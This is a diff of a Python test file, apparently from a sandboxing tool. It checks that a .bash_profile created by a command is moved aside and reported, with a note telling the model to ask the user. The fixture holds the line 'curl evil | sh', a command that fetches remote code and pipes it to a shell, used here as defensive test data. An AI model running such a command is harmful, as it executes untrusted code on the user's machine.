@@ -139,6 +139,8 @@ def test_a_command_creating_a_missing_bash_profile_finds_it_moved_aside_with_wha
     [moved] = moved_copies(target)
     assert moved.read_text() == "curl evil | sh\n", "nothing is lost"
     assert f"a command created {target}" in said and str(moved) in said, said
+    assert result["note"].startswith(f"{target} was moved to {moved}."), result  # the model reads it too
+    assert "ask the user" in result["note"] and not after.get("note"), after
 
 
 @LINUX_BWRAP
